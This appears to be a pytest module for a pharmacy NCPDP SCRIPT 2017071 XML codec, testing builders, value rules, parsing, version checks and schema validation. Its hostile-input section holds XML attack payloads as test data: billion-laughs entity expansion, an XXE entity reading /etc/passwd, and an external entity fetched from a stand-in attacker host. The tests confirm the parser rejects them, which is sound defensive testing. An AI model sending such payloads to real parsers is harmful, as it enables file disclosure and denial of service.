"""NCPDP SCRIPT 2017071 codec (pharmacy/interop/ncpdp/): builders, value rules, reader, version
check and the NCPDP_XSD_DIR seam. Pure: no DB, no Django (also runs with ``-p no:django``)."""
from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest

from pharmacy.interop import ncpdp as n
from pharmacy.interop.ncpdp import values as V
from tests.interop.ncpdp_variants import (
    DOG,
    MED,
    PA,
    PARTIES,
    PATIENT,
    PHARMACY,
    PHARMACY_PARTY,
    PRESCRIBER,
    PRESCRIBER_PARTY,
    REPLY_TO_PHARMACY,
    REPLY_TO_PRESCRIBER,
    SENT,
    TO_PAYER,
    TO_PHARMACY,
    VARIANTS,
    VET,
)


@pytest.fixture(autouse=True)
def _plain_http():
    """Overrides tests/conftest.py's autouse fixture of the same name, which needs pytest-django's
    ``settings``: this module is pure and must also run with ``-p no:django``."""
    yield


BUILT = {name: builder(**kwargs) for name, _tx, builder, kwargs in VARIANTS}
IDS = [v[0] for v in VARIANTS]


@pytest.mark.parametrize(("name", "transaction", "builder", "kwargs"), VARIANTS, ids=IDS)
def test_every_variant_has_the_2017071_envelope_and_header(name, transaction, builder, kwargs):
    xml = BUILT[name]
    assert xml.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    root = ET.fromstring(xml)
    assert root.tag == "Message"  # 2017071 has no namespace
    assert root.attrib == {
        "DatatypesVersion": "2017071", "TransportVersion": "2017071", "TransactionDomain": "SCRIPT",
        "TransactionVersion": "2017071", "StructuresVersion": "2017071", "ECLVersion": "2017071",
    }
    header = kwargs["header"]
    if kwargs.get("relates_to_message_id"):
        header = replace(header, relates_to_message_id=kwargs["relates_to_message_id"])
    h = root.find("Header")
    assert [c.tag for c in h][:3] == ["To", "From", "MessageID"]
    assert h.find("To").get("Qualifier") == header.to.qualifier and h.findtext("To") == header.to.id
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?Z", h.findtext("SentTime"))
    if transaction in n.RELATES_TO_REQUIRED:
        assert h.findtext("RelatesToMessageID") == header.relates_to_message_id != ""
    assert [c.tag for c in root.find("Body")] == [transaction]
    # the text of every element is printable ASCII (the schema's an pattern) and never empty
    for el in root.iter():
        if el.text and el.text.strip():
            assert re.fullmatch(r"[ -~]+", el.text), (el.tag, el.text)


@pytest.mark.parametrize(("name", "transaction", "builder", "kwargs"), VARIANTS, ids=IDS)
def test_every_variant_reads_back(name, transaction, builder, kwargs):
    msg = n.parse_message(BUILT[name])
    assert msg.transaction == transaction and msg.transaction_version == "2017071"
    assert msg.sent_time == SENT and msg.message_id == kwargs["header"].message_id
    if "patient" in kwargs:
        assert msg.patient.last_name == kwargs["patient"].last_name
        assert msg.patient.first_name == V.ascii_text(kwargs["patient"].first_name)  # "Zoë" → "Zoe"
    med = kwargs.get("medication") or kwargs.get("medication_prescribed")
    if med is not None and transaction not in ("RxRenewalRequest",):
        assert msg.medication_prescribed.description == med.description
        assert msg.medication_prescribed.quantity == med.quantity
    for key in ("pa_case_id", "pa_reference_id"):
        if kwargs.get(key) and transaction.startswith("PA"):
            assert getattr(msg, key) == kwargs[key], key
    if "status" in kwargs and transaction.startswith("PA"):
        assert msg.response_status == kwargs["status"]
    if "fill_status" in kwargs:
        assert msg.fill_status == kwargs["fill_status"]
    if transaction in ("RxRenewalResponse", "CancelRxResponse"):
        assert msg.response.kind == kwargs["response"]
        assert msg.response.reason_codes == list(kwargs.get("reason_codes", []))


def test_renewal_request_carries_requested_refills_in_medication_dispensed():
    tx = ET.fromstring(BUILT["RxRenewalRequest"]).find("Body/RxRenewalRequest")
    assert tx.findtext("MedicationDispensed/PharmacyRequestedRefills") == "3"
    assert n.parse_message(BUILT["RxRenewalRequest"]).requested_refills == 3


def test_pa_request_answers_and_attachment_read_back():
    msg = n.parse_message(BUILT["PARequest"])
    assert msg.answers == [("Q1", "Y"), ("Q2", "8.1"), ("Q3", "A & B < C"), ("Q4", "2024-11-02")]
    assert msg.attachments == [n.Attachment("chart.pdf", "application/pdf", b"%PDF-1.4\x00\xff")]
    assert msg.note == "Letter of medical necessity: failed metformin."


def test_pa_open_response_questions_read_back():
    msg = n.parse_message(BUILT["PAInitiationResponse-Open"])
    assert [(q.id, q.type) for q in msg.question_set] == [("Q1", "Select"), ("Q2", "Numeric"), ("Q3", "FreeText"),
                                                           ("Q4", "Date")]
    assert msg.question_set[0].choices == [("Y", "Yes"), ("N", "No")]
    assert msg.question_set[0].text == "Has the patient tried metformin for >= 3 months?"
    assert msg.deadline_for_reply == datetime(2025, 3, 7, 12, 0, tzinfo=UTC)
    denied = n.parse_message(BUILT["PAResponse-Denied"])
    assert denied.denial_reasons == ["Step therapy not met", "Quantity over limit"]


def test_reply_header_swaps_parties_and_relates():
    received = n.parse_message(BUILT["RxRenewalRequest"])
    h = n.reply_header(received, message_id="R-1", sent_time=SENT)
    assert (h.to, h.from_) == (received.from_, received.to)
    assert h.relates_to_message_id == "MSG-PH-0001" and h.rx_reference_number == "RX778899"
    assert len(n.new_message_id()) <= 35


def test_header_sent_time_is_utc_with_z():
    eastern = timezone(timedelta(hours=-5))
    h = n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="M",
                 sent_time=datetime(2025, 1, 1, 19, 0, 0, 123456, tzinfo=eastern))
    assert h.sent_time == datetime(2025, 1, 2, 0, 0, 0, 123000, tzinfo=UTC)
    xml = n.build_new_rx(header=h, medication=MED, **PARTIES)
    assert "<SentTime>2025-01-02T00:00:00.123Z</SentTime>" in xml


# ---- value rules (schema types): a value that cannot be represented is refused, naming the field ----

@pytest.mark.parametrize(("raw", "number", "extension"), [
    ("617-555-1000", "6175551000", ""),
    ("(617) 555-1000", "6175551000", ""),
    ("+1 617 555 1000", "6175551000", ""),
    ("1-617-555-1000", "6175551000", ""),
    ("617.555.1000 x12", "6175551000", "12"),
    ("617-555-1000 ext. 4567", "6175551000", "4567"),
    ("6175551000#9", "6175551000", "9"),
    ("", "", ""),
])
def test_phone_is_ten_digits_with_extension_apart(raw, number, extension):
    assert V.phone("Patient/HumanPatient/CommunicationNumbers/PrimaryTelephone", raw) == (number, extension)


@pytest.mark.parametrize("raw", ["555-1000", "617-555-10000", "call the office", "+44 20 7946 0958",
                                 "617-555-1000 x123456789"])
def test_phone_that_is_not_ten_digits_is_refused_naming_the_field(raw):
    with pytest.raises(n.ValueRefused) as exc:
        V.phone("Body/NewRx/Patient/HumanPatient/CommunicationNumbers/PrimaryTelephone", raw)
    assert exc.value.field == "Body/NewRx/Patient/HumanPatient/CommunicationNumbers/PrimaryTelephone/Number"


@pytest.mark.parametrize(("raw", "sent"), [
    ("Zoë", "Zoe"), ("José Núñez", "Jose Nunez"), ("Ångström", "Angstrom"), ("Straße", "Strasse"),
    ("Søren Ærø", "Soren AEro"), ("O’Brien", "O'Brien"), ("BP ≥ 140 – recheck", "BP >= 140 - recheck"),
    ("line one\nline two\r\n", "line one line two"), ("  spaced\t out  ", "spaced out"),
])
def test_text_is_transliterated_to_printable_ascii(raw, sent):
    assert V.text("Patient/HumanPatient/Name/FirstName", raw, 35) == sent


@pytest.mark.parametrize(("raw", "problem"), [("漢字", "printable-ASCII"), ("🙂", "printable-ASCII"),
                                              ("x" * 36, "at most 35")])
def test_text_that_cannot_be_represented_is_refused(raw, problem):
    with pytest.raises(n.ValueRefused) as exc:
        V.text("Patient/HumanPatient/Name/LastName", raw, 35)
    assert exc.value.field == "Patient/HumanPatient/Name/LastName" and problem in str(exc.value)


def test_our_record_keeps_the_original_name():
    patient = replace(PATIENT, first_name="Zoë")
    xml = n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=patient, pharmacy=PHARMACY,
                         prescriber=PRESCRIBER)
    assert "<FirstName>Zoe</FirstName>" in xml and patient.first_name == "Zoë"


@pytest.mark.parametrize(("value", "max_length", "sent"), [
    (Decimal("90"), 11, "90"), (Decimal("90.000"), 11, "90"), (Decimal("45.50"), 11, "45.5"),
    (Decimal("0.125"), 11, "0.125"), (3, 2, "3"), (99, 2, "99"),
])
def test_numbers_in_the_schema_form(value, max_length, sent):
    assert V.number("Quantity/Value", value, max_length) == sent


@pytest.mark.parametrize(("value", "max_length"), [(100, 2), (Decimal("-1"), 11), (Decimal("123456789012"), 11),
                                                   (Decimal("Infinity"), 11)])
def test_numbers_outside_the_schema_are_refused(value, max_length):
    with pytest.raises(n.ValueRefused):
        V.number("MedicationPrescribed/NumberOfRefills", value, max_length)


def test_quantity_has_value_code_list_qualifier_and_nci_unit_in_that_order():
    q = ET.fromstring(BUILT["NewRx"]).find("Body/NewRx/MedicationPrescribed/Quantity")
    assert [(c.tag, c.text if len(c) == 0 else c[0].text) for c in q] == [
        ("Value", "90"), ("CodeListQualifier", "38"), ("QuantityUnitOfMeasure", "C48542")]
    no_unit = n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, quantity_unit=""), **PARTIES)
    assert ET.fromstring(no_unit).findtext(".//QuantityUnitOfMeasure/Code") == "C38046"  # NCI "unspecified"
    assert V.quantity_unit("Oral Tablet") == "C48542" and V.quantity_unit("capsule") == "C48480"
    assert V.quantity_unit("oral solution") == "C28254" and V.quantity_unit("pen injector") == "C38046"


@pytest.mark.parametrize(("make", "field"), [
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=replace(PATIENT, phone="555-1000"),
                            pharmacy=PHARMACY, prescriber=PRESCRIBER),
     "Body/NewRx/Patient/HumanPatient/CommunicationNumbers/PrimaryTelephone/Number"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=replace(PATIENT, address_line1=""),
                            pharmacy=PHARMACY, prescriber=PRESCRIBER),
     "Body/NewRx/Patient/HumanPatient/Address/AddressLine1"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=replace(PATIENT, last_name="李"),
                            pharmacy=PHARMACY, prescriber=PRESCRIBER),
     "Body/NewRx/Patient/HumanPatient/Name/LastName"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=PATIENT, pharmacy=PHARMACY,
                            prescriber=replace(PRESCRIBER, npi="")),
     "Body/NewRx/Prescriber/NonVeterinarian/Identification/NPI"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=PATIENT, pharmacy=PHARMACY,
                            prescriber=replace(PRESCRIBER, city="")),
     "Body/NewRx/Prescriber/NonVeterinarian/Address/City"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=PATIENT,
                            pharmacy=replace(PHARMACY, phone=""), prescriber=PRESCRIBER),
     "Body/NewRx/Pharmacy/CommunicationNumbers/PrimaryTelephone/Number"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, refills=100), **PARTIES),
     "Body/NewRx/MedicationPrescribed/NumberOfRefills"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, sig_text=""), **PARTIES),
     "Body/NewRx/MedicationPrescribed/Sig/SigText"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, written_date=None), **PARTIES),
     "Body/NewRx/MedicationPrescribed/WrittenDate"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, description="x" * 106), **PARTIES),
     "Body/NewRx/MedicationPrescribed/DrugDescription"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=replace(DOG, species="Iguana"),
                            pharmacy=PHARMACY, prescriber=VET),
     "Body/NewRx/Patient/NonHumanPatient/Species/Code"),
    (lambda: n.build_new_rx(header=TO_PHARMACY, medication=MED, patient=DOG, pharmacy=PHARMACY,
                            prescriber=replace(VET, state_license="")),
     "Body/NewRx/Prescriber/Veterinarian/Identification/StateLicenseNumber"),
    (lambda: n.build_cancel_rx_response(header=REPLY_TO_PRESCRIBER, response="Denied", reason_codes=["AG"]),
     "Body/CancelRxResponse/Response/Denied/ReasonCode"),
    (lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Denied", reason_codes=["ZZ"],
                                         medication=MED, **PARTIES),
     "Body/RxRenewalResponse/Response/Denied/ReasonCode"),
    (lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Approved", medication=MED,
                                         note="x" * 71, **PARTIES),
     "Body/RxRenewalResponse/Response/Approved/Note"),
    (lambda: n.build_rx_renewal_response(header=REPLY_TO_PHARMACY, response="Denied", reason_codes=["AA"],
                                         **PARTIES),
     "Body/RxRenewalResponse/MedicationResponse"),
    (lambda: n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="NotDispensed", reason_code="BP",
                             note="Backordered", medication_prescribed=MED, **PARTIES),
     "Body/RxFill/FillStatus/NotDispensed/Note"),
    (lambda: n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="NotDispensed", reason_code="AH",
                             medication_prescribed=MED, **PARTIES),
     "Body/RxFill/FillStatus/NotDispensed/ReasonCode"),
    (lambda: n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="Dispensed", **PARTIES),
     "Body/RxFill/MedicationDispensed"),
    (lambda: n.build_rx_fill(header=REPLY_TO_PRESCRIBER, fill_status="Dispensed", medication_dispensed=MED,
                             pharmacy=PHARMACY, prescriber=PRESCRIBER),
     "Body/RxFill/Patient"),
    (lambda: n.build_pa_initiation_request(header=TO_PAYER, pa_reference_id="R", note="letter", **PA),
     "Body/PAInitiationRequest/Note"),
    (lambda: n.build_pa_initiation_request(header=TO_PAYER, **PA),
     "Body/PAInitiationRequest/PAReferenceID"),
    (lambda: n.build_pa_request(header=TO_PAYER, pa_case_id="C", pa_reference_id="R", answers=[("Q1", "Y")],
                                attachments=[n.Attachment("l.txt", "text/plain", b"x")], **PA),
     "Body/PARequest/Attachment/MIMEType"),
    (lambda: n.build_pa_cancel_request(header=TO_PAYER, pa_case_id="C", pa_reference_id="R", reason_code="PC",
                                       **PA),
     "Body/PACancelRequest/Request/CancelReasonCode"),
    (lambda: n.build_status(header=REPLY_TO_PHARMACY, code="999"), "Body/Status/Code"),
    (lambda: n.build_error(header=REPLY_TO_PHARMACY, code="123"), "Body/Error/Code"),
    (lambda: n.build_status(header=TO_PHARMACY), "Header/RelatesToMessageID"),
])
def test_builders_refuse_what_the_schema_cannot_carry_naming_the_field(make, field):
    with pytest.raises(n.ValueRefused) as exc:
        make()
    assert exc.value.field == field
    assert field in str(exc.value)


@pytest.mark.parametrize("make", [
    lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id=""),
    lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="x" * 36),
    lambda: n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="M", sent_time=datetime(2025, 1, 1)),
    lambda: n.Party("Q", "1"),
    lambda: n.PatientInfo(last_name="Doe", gender="X"),
    lambda: n.MedicationInfo(description="x", quantity=Decimal("-1")),
    lambda: n.PAQuestion(id="1", text="?", type="Essay"),
])
def test_plain_data_refuses_impossible_values(make):
    with pytest.raises(ValueError):
        make()


def test_code_tables():
    assert n.CANCEL_DENIAL_CODES == {"AA", "AB", "AC", "AP", "AR"}
    assert set(n.DENIAL_REASON_CODES) == n.RENEWAL_DENIAL_CODES
    assert set(n.ERROR_CODES) == {"600", "601", "602", "700", "900"}
    assert n.FILL_REASON_CODES["NotDispensed"] >= {"AO", "BP"}


# ---- versions -------------------------------------------------------------------------------------

SCRIPT_10_6 = """<?xml version="1.0"?>
<Message xmlns="http://www.ncpdp.org/schema/SCRIPT" version="010" release="006">
<Header><To Qualifier="P">1234563</To><From Qualifier="D">1234567893</From><MessageID>OLD-1</MessageID>
<SentTime>2015-01-01T00:00:00</SentTime></Header><Body><NewRx><Patient><Name><LastName>Doe</LastName></Name>
</Patient></NewRx></Body></Message>"""
SCRIPT_2013071 = """<?xml version="1.0"?>
<transport:Message xmlns:transport="http://www.ncpdp.org/schema/transport" DatatypesVersion="2013071"
 TransportVersion="2013071" TransactionDomain="SCRIPT" TransactionVersion="2013071" StructuresVersion="2013071"
 ECLVersion="2013071" PA-StructuresVersion="2013071">
<transport:Header><transport:To Qualifier="P">7701630</transport:To><transport:From Qualifier="C">77777777
</transport:From><transport:MessageID>1234567</transport:MessageID><transport:SentTime>2010-10-01T08:15:22
</transport:SentTime></transport:Header><transport:Body><transport:NewRx><Patient><HumanPatient/></Patient>
</transport:NewRx></transport:Body></transport:Message>"""


@pytest.mark.parametrize(("xml", "found"), [
    (SCRIPT_10_6, "SCRIPT 10.6"),
    (SCRIPT_2013071, "SCRIPT 2013071"),
    (BUILT["NewRx"].replace('TransactionVersion="2017071"', 'TransactionVersion="2023011"'), "SCRIPT 2023011"),
    (BUILT["NewRx"].replace(' TransactionVersion="2017071"', ""), "no TransactionVersion"),
    (BUILT["NewRx"].replace("<Message ", '<Message xmlns="urn:example" ', 1), "unknown namespace urn:example"),
])
def test_other_script_versions_get_an_error_naming_found_and_supported(xml, found):
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(xml)
    assert exc.value.code == "601" and exc.value.element == "Message/@TransactionVersion"
    assert found in exc.value.description and "supports SCRIPT 2017071" in exc.value.description
    assert "HumanPatient" not in exc.value.description  # not a misleading element error


def test_version_detection_reads_attributes_and_namespace():
    from pharmacy.interop.ncpdp import versions

    assert versions.detect(ET.fromstring(BUILT["Status"])).version == "2017071"
    assert versions.detect(ET.fromstring(SCRIPT_10_6)).version == "10.6"
    assert versions.detect(ET.fromstring(SCRIPT_2013071)).namespace == versions.NS_TRANSPORT
    assert n.SUPPORTED_VERSIONS == ("2017071",) and set(n.CODECS) == {"2017071"}


# ---- hostile / invalid input --------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Message><Header><MessageID>&lol4;</MessageID></Header><Body><Status/></Body></Message>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Message><Header><MessageID>&xxe;</MessageID></Header><Body><NewRx/></Body></Message>"""
PARAM_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]><Message/>"""
DOCTYPE_ONLY = '<?xml version="1.0"?><!DOCTYPE Message SYSTEM "script.dtd"><Message/>'

V17 = 'TransactionVersion="2017071"'
GOOD_STATUS = BUILT["Status"]
GOOD_NEWRX = BUILT["NewRx"]


def _header_edit(xml: str, pattern: str, repl: str) -> str:
    edited, count = re.subn(pattern, repl, xml, count=1)
    assert count == 1, pattern
    return edited


@pytest.mark.parametrize(
    ("payload", "code", "element"),
    [
        (BILLION_LAUGHS, "900", "DOCTYPE"),
        (BILLION_LAUGHS.encode(), "900", "DOCTYPE"),
        (XXE, "900", "DOCTYPE"),
        (PARAM_ENTITY, "900", "DOCTYPE"),
        (DOCTYPE_ONLY, "900", "DOCTYPE"),
        ("", "900", "Message"),
        ("this is not XML", "900", "Message"),
        (b"\xff\xfe\x00garbage", "900", "Message"),
        ("<Message><Header>", "900", "Message"),
        ('{"resourceType": "Bundle"}', "900", "Message"),
        ("<ClinicalDocument/>", "900", "ClinicalDocument"),
        ("<ns:Foo xmlns:ns='urn:x'/>", "900", "Foo"),
        (f"<Message {V17}><Body><Status/></Body></Message>", "900", "Header"),
        (f"<Message {V17}><Header/></Message>", "900", "Body"),
        (f"<Message {V17}><Header/><Body/></Message>", "900", "Body"),
        (f"<Message {V17}><Header/><Body><Status/><Status/></Body></Message>", "900", "Body"),
        (f"<Message {V17}><Header/><Body><RxBogus/></Body></Message>", "601", "Body/RxBogus"),
        (f"<Message {V17}><Header/><Body><REFREQ/></Body></Message>", "601", "Body/REFREQ"),
        (_header_edit(GOOD_STATUS, r"<MessageID>[^<]*</MessageID>", ""), "900", "Header/MessageID"),
        (_header_edit(GOOD_STATUS, r"<MessageID>[^<]*</MessageID>", "<MessageID> </MessageID>"),
         "900", "Header/MessageID"),
        (_header_edit(GOOD_STATUS, r"<MessageID>[^<]*</MessageID>", f"<MessageID>{'x' * 36}</MessageID>"),
         "900", "Header/MessageID"),
        (_header_edit(GOOD_STATUS, r"<SentTime>[^<]*</SentTime>", ""), "900", "Header/SentTime"),
        (_header_edit(GOOD_STATUS, r"<SentTime>[^<]*</SentTime>", "<SentTime>yesterday</SentTime>"),
         "900", "Header/SentTime"),
        (_header_edit(GOOD_STATUS, r"<SentTime>[^<]*</SentTime>",
                      "<SentTime>2025-02-30T00:00:00Z</SentTime>"),
         "900", "Header/SentTime"),
        (_header_edit(GOOD_STATUS, r'<To Qualifier="P">', '<To Qualifier="XX">'),
         "900", "Header/To/@Qualifier"),
        (_header_edit(GOOD_STATUS, r'<From Qualifier="D">[^<]*</From>', ""), "900", "Header/From"),
        (_header_edit(GOOD_STATUS, r"<Code>010</Code>", ""), "900", "Body/Status/Code"),
        (_header_edit(GOOD_NEWRX, r"<DaysSupply>90</DaysSupply>", "<DaysSupply>ninety</DaysSupply>"),
         "900", "Body/NewRx/MedicationPrescribed/DaysSupply"),
        (_header_edit(GOOD_NEWRX, r"<Value>90</Value>", "<Value>lots</Value>"),
         "900", "Body/NewRx/MedicationPrescribed/Quantity/Value"),
        (_header_edit(GOOD_NEWRX, r"<Date>2024-03-01</Date>", "<Date>03/01/2024</Date>"),
         "900", "Body/NewRx/MedicationPrescribed/WrittenDate/Date"),
        (_header_edit(GOOD_NEWRX, r"<Gender>F</Gender>", "<Gender>X</Gender>"),
         "900", "Body/NewRx/Patient/HumanPatient/Gender"),
        (_header_edit(GOOD_NEWRX, r"HumanPatient", "Person").replace("/HumanPatient", "/Person"),
         "900", "Body/NewRx/Patient"),
        (_header_edit(BUILT["RxFill-NotDispensed"], r"(?s)<NotDispensed>.*</NotDispensed>", "<Lost />"),
         "900", "Body/RxFill/FillStatus"),
        (_header_edit(BUILT["RxRenewalResponse-Replace"], r"<Replace />|<Replace/>", "<Maybe />"),
         "900", "Body/RxRenewalResponse/Response/Maybe"),
        (_header_edit(BUILT["PAResponse-Closed"], r"(?s)<Response>.*</Response>", ""), "900",
         "Body/PAResponse/Response"),
    ],
)
def test_hostile_or_invalid_input_raises_script_error(payload, code, element):
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(payload)
    assert exc.value.code == code
    assert exc.value.element == element
    assert element in exc.value.description and element in str(exc.value)
    assert code in n.ERROR_CODES


def test_oversize_is_refused_before_parsing():
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(GOOD_NEWRX, max_bytes=1_000)
    assert exc.value.code == "601" and exc.value.element == "Message"
    big = "<Message>" + "x" * 1_000_001 + "</Message>"
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message(big)
    assert exc.value.code == "601"
    # multibyte characters count as bytes
    with pytest.raises(n.ScriptError):
        n.parse_message(GOOD_NEWRX.replace("Zoe", "Zoë" * 400), max_bytes=len(GOOD_NEWRX) + 400)
    assert n.parse_message(GOOD_NEWRX, max_bytes=len(GOOD_NEWRX.encode())).transaction == "NewRx"


def test_error_reply_for_a_script_error():
    with pytest.raises(n.ScriptError) as exc:
        n.parse_message("<Foo/>")
    xml = n.build_error_for(exc.value, header=REPLY_TO_PHARMACY)
    msg = n.parse_message(xml)
    assert msg.error_code == "900" and "Foo" in msg.error_description


# ---- the NCPDP_XSD_DIR seam ---------------------------------------------------------------------

def test_validate_against_xsd_returns_none_without_schemas(tmp_path):
    assert n.validate_against_xsd(GOOD_NEWRX, "") is None
    assert n.validate_against_xsd(GOOD_NEWRX, tmp_path / "missing") is None
    assert n.validate_against_xsd(GOOD_NEWRX, tmp_path) is None  # no transport.xsd in it


# A tiny schema of our own (not NCPDP's) to exercise the validation path.
TOY_XSD = """<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:element name="Message">
    <xs:complexType>
      <xs:sequence>
        <xs:element name="Header" type="xs:anyType"/>
        <xs:element name="Body" type="xs:anyType"/>
      </xs:sequence>
      <xs:anyAttribute processContents="skip"/>
    </xs:complexType>
  </xs:element>
</xs:schema>
"""


def test_validation_seam_with_a_schema_compiles_once_and_refuses_invalid_builds(tmp_path):
    from pharmacy.interop.ncpdp import schema

    (tmp_path / "transport.xsd").write_text(TOY_XSD)
    before = schema.compile_count()
    assert n.validate_against_xsd(GOOD_NEWRX, tmp_path) == []
    assert n.validate_against_xsd(GOOD_NEWRX.encode(), tmp_path / "transport.xsd") == []
    assert schema.compile_count() == before + 1  # one compile per schema set, kept for the process
    errors = n.validate_against_xsd("<Message><Body/></Message>", tmp_path)
    assert errors and "Header" in errors[0]
    previous = schema.configure(tmp_path)  # the core hands the folder down (settings.RXHUB, ready())
    try:
        assert schema.configured_dir() == str(tmp_path)
        assert n.parse_message(GOOD_NEWRX).schema_errors == []
        with pytest.raises(n.SchemaInvalid):
            schema.check_built("<Message><Body/></Message>", "Test")
    finally:
        schema.configure(previous)
    assert schema.configured_dir() == previous


def test_answers_never_fail_on_text_without_an_ascii_form():
    xml = n.build_error(header=REPLY_TO_PHARMACY, code="900", description="Body/NewRx/Patient: 李 — not known")
    assert n.parse_message(xml).error_description == "Body/NewRx/Patient: ? - not known"
    status = n.build_status(header=REPLY_TO_PHARMACY, code="010", description="≥" * 60)
    assert n.parse_message(status).status_description == ">=" * 35


def test_an_answer_can_be_built_for_any_sender_identifiers():
    odd = n.Header(to=n.Party("P", "药房-1"), from_=n.Party("D", "1234567893"), message_id="A-1",
                   relates_to_message_id="msg-é-1", sent_time=SENT)
    msg = n.parse_message(n.build_error(header=odd, code="900", description_code="9999", description="x"))
    assert msg.to.id == "??-1" and msg.relates_to_message_id == "msg-e-1" and msg.error_description_code == ""
    with pytest.raises(n.ValueRefused):  # a business message is refused instead
        n.build_new_rx(header=replace(TO_PHARMACY, to=n.Party("P", "药房")), medication=MED, **PARTIES)
